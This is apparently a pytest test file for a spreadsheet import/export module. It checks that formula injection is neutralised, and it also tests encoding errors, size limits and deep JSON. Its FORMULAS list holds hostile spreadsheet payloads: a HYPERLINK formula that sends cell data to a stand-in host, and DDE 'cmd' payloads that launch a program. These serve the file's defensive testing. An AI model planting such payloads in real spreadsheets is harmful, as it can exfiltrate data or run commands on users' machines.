from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from itembank.tabular import (
    ReadLimits,
    append_xlsx_row,
    csv_bytes,
    decode_text,
    format_csv,
    load_json,
    looks_like_formula,
    neutralise_cell,
    parse_csv_table,
    parse_xlsx_table,
    read_table,
    restore_cell,
)

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "=1+1",
    "-",
    "+",
    "@",
]
SAFE = ["plain", "中文=", "a=b", "'quoted", "-0.5", "+86", "-0.2;0.9", "1e-3", "", " ", "E1"]
FORMULA_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\t\r \n.;0123456789eEAb(")), max_size=12)


# ------------------------------------------------------------------------------------------ writing
@pytest.mark.parametrize("text", FORMULAS)
def test_formula_starts_are_neutralised_with_a_quote(text: str) -> None:
    assert looks_like_formula(text)
    assert neutralise_cell(text) == "'" + text
    assert not looks_like_formula(neutralise_cell(text))
    assert restore_cell(neutralise_cell(text)) == text


@pytest.mark.parametrize("text", SAFE)
def test_text_and_plain_numbers_are_left_alone(text: str) -> None:
    assert not looks_like_formula(text)
    assert neutralise_cell(text) == text and restore_cell(text) == text


def test_non_text_cells_pass_through() -> None:
    assert neutralise_cell(-5) == -5 and neutralise_cell(None) is None and neutralise_cell(1.5) == 1.5


def test_a_quote_before_a_formula_survives_the_round_trip() -> None:
    assert neutralise_cell("'=1+1") == "''=1+1"
    assert restore_cell("''=1+1") == "'=1+1"
    assert restore_cell("'=1+1") == "=1+1"
    assert restore_cell("'plain") == "'plain"  # a quote the export did not add stays


@given(st.text(max_size=30) | FORMULA_TEXT)
def test_neutralising_is_exactly_undone_and_never_leaves_a_formula(text: str) -> None:
    safe = neutralise_cell(text)
    assert not looks_like_formula(safe)
    assert restore_cell(safe) == text


def test_csv_bytes_quote_formulas_and_read_back() -> None:
    raw = csv_bytes([["name", "n"], *[[f, 7] for f in FORMULAS]])
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["name", "n"]
    for text, (cell, number) in zip(FORMULAS, rows[1:], strict=True):
        assert cell == "'" + text and number == "7"
    table = parse_csv_table(raw)
    assert [r.cells[0] for r in table.rows[1:]] == FORMULAS  # the reader removes the quote again
    assert format_csv([["a"]]) == "a\r\n" and csv_bytes([["a"]], bom=False) == b"a\r\n"


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_text_is_stored_as_text_never_as_a_formula(tmp_path: Path, write_only: bool) -> None:
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet() if write_only else workbook.active
    values = [*FORMULAS, "nul\x00here", "plain", 42, 1.5, None]
    append_xlsx_row(sheet, values)
    path = tmp_path / "x.xlsx"
    workbook.save(path)
    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml  # no formula anywhere
    reopened = load_workbook(path)
    cells = list(reopened.worksheets[0].iter_rows())[0]
    for text, cell in zip(FORMULAS, cells, strict=False):
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")  # XML reads CR as LF
        assert cell.quotePrefix  # Excel keeps it text when someone edits the cell
    rest = cells[len(FORMULAS) :]
    assert rest[0].value == "nul\ufffdhere"  # XML cannot hold NUL
    assert (rest[1].value, rest[1].quotePrefix) == ("plain", False)
    assert (rest[2].value, rest[3].value) == (42, 1.5)
    assert parse_xlsx_table(path.read_bytes()).rows[0].cells[: len(FORMULAS)] == tuple(f.strip() for f in FORMULAS)


# ------------------------------------------------------------------------------------------ text
def test_a_file_cut_in_the_middle_of_a_character_says_so() -> None:
    raw = "code,name\r\n1,信息素养".encode()[:-1]
    text, problem = decode_text(raw, unit="row", spreadsheet=True)
    assert text is None and problem is not None
    assert problem.where == "row 2" and "ends in the middle of a character" in problem.message
    assert "cut short" in problem.message and "GBK" not in problem.message


def test_gbk_and_other_encodings_are_told_apart() -> None:
    _, gbk = decode_text("学校,班级\r\n".encode("gbk"), unit="row", spreadsheet=True)
    assert gbk is not None and "GBK" in gbk.message and "CSV UTF-8" in gbk.message
    _, latin = decode_text("café,x\r\n".encode("latin-1"), unit="row", spreadsheet=True)
    assert latin is not None and "not valid UTF-8" in latin.message and "GBK" not in latin.message
    _, json_gbk = decode_text('{"stem": "信息"}'.encode("gbk"), unit="line", spreadsheet=False)
    assert json_gbk is not None and "GBK" in json_gbk.message and "CSV" not in json_gbk.message


# ------------------------------------------------------------------------------------------ JSON
def test_deep_json_is_one_clear_problem_not_a_recursion_error() -> None:
    very_deep = b"[" * 100_000 + b"]" * 100_000
    doc, problems = load_json(very_deep)
    assert doc is None and len(problems) == 1 and "nested more than 32 levels" in problems[0].message
    nested: object = 1
    for _ in range(40):
        nested = [nested]
    deep = json.dumps({"items": [{"parts": nested}]})
    doc, problems = load_json(deep.encode())
    assert doc is None and problems[0].where.startswith("items[0].parts[0]")
    ok, none = load_json(b'{"a": [[1]]}')
    assert ok == {"a": [[1]]} and none == ()


def test_json_size_and_odd_numbers() -> None:
    _, big = load_json(b"[" + b"1," * 600 + b"1]", limits=ReadLimits(max_bytes=1000))
    assert big[0].message.startswith("the file is 0.0 MiB, more than the limit of 0 MiB")
    _, digits = load_json(b"1" * 5000)
    assert digits and "not usable JSON" in digits[0].message


# ------------------------------------------------------------------------------------------ tables
def test_too_many_rows_stops_reading_with_one_problem(tmp_path: Path) -> None:
    limits = ReadLimits(max_rows=10)
    raw = b"a,b\r\n" + b"1,2\r\n" * 11
    table = parse_csv_table(raw, limits=limits)
    assert table.rows == () and [p.message for p in table.problems] == [
        "more than 10 data rows (the limit): split the file and import the parts"
    ]
    assert len(parse_csv_table(b"a,b\r\n" + b"1,2\r\n" * 10, limits=limits).rows) == 11
    workbook = Workbook()
    sheet = workbook.active
    for _ in range(12):
        append_xlsx_row(sheet, ["x", 1])
    path = tmp_path / "rows.xlsx"
    workbook.save(path)
    assert "more than 10 data rows" in read_table(path, limits=limits).problems[0].message


def test_too_big_files_are_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    path.write_bytes(b"a\r\n" + b"x" * 3 * 2**20)
    problem = read_table(path, limits=ReadLimits(max_bytes=2**20)).problems[0]
    assert problem.message == "the file is 3.0 MiB, more than the limit of 1 MiB: split it"


def test_a_workbook_that_unpacks_too_big_is_refused(tmp_path: Path) -> None:
    workbook = Workbook()
    sheet = workbook.active
    for _ in range(2000):
        append_xlsx_row(sheet, ["x" * 200])
    buffer = io.BytesIO()
    workbook.save(buffer)
    table = parse_xlsx_table(buffer.getvalue(), limits=ReadLimits(max_unpacked_bytes=100_000))
    assert "unpacks to" in table.problems[0].message


def _with_formulas(cached: dict[str, str]) -> bytes:
    """A workbook whose B2 and B3 are formulas; ``cached`` gives saved values by cell (as Excel saves)."""
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["school", "class"])
    sheet.append(["一小", '=A2&"1班"'])
    sheet.append(["二小", '=A3&"2班"'])
    buffer = io.BytesIO()
    workbook.save(buffer)
    src = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                for ref, value in cached.items():
                    marker = f'<c r="{ref}" t="str">'.encode()
                    data = data.replace(f'<c r="{ref}">'.encode(), marker)
                    start = data.index(marker)
                    end = data.index(b"</c>", start)
                    cell = data[start:end].replace(b"<v />", b"").replace(b"<v></v>", b"")
                    data = data[:start] + cell + f"<v>{value}</v>".encode() + data[end:]
            dst.writestr(info, data)
    return out.getvalue()


def test_xlsx_formulas_read_their_saved_value_or_say_they_have_none() -> None:
    table = parse_xlsx_table(_with_formulas({"B2": "一小1班"}))
    assert [r.cells for r in table.rows] == [("school", "class"), ("一小", "一小1班"), ("二小", "")]
    assert len(table.cell_problems) == 1
    problem = table.cell_problems[0]
    assert (problem.row, problem.column) == (3, 1)
    assert 'a formula (=A3&"2班") without a saved value' in problem.message


def test_damaged_and_unknown_files(tmp_path: Path) -> None:
    assert "not a valid .xlsx workbook" in parse_xlsx_table(b"PK\x03\x04 nope").problems[0].message
    assert "cut short" in parse_xlsx_table(_with_formulas({})[:-200]).problems[0].message
    assert parse_xlsx_table(b"").problems[0].message == "the file is empty"
    assert "use .csv or .xlsx" in read_table(tmp_path / "x.ods").problems[0].message
    assert "cannot read the file" in read_table(tmp_path / "missing.xlsx").problems[0].message
    assert "a cell longer than" in parse_csv_table(b'a\r\n"' + b"x" * 200_000 + b'"\r\n').problems[0].message
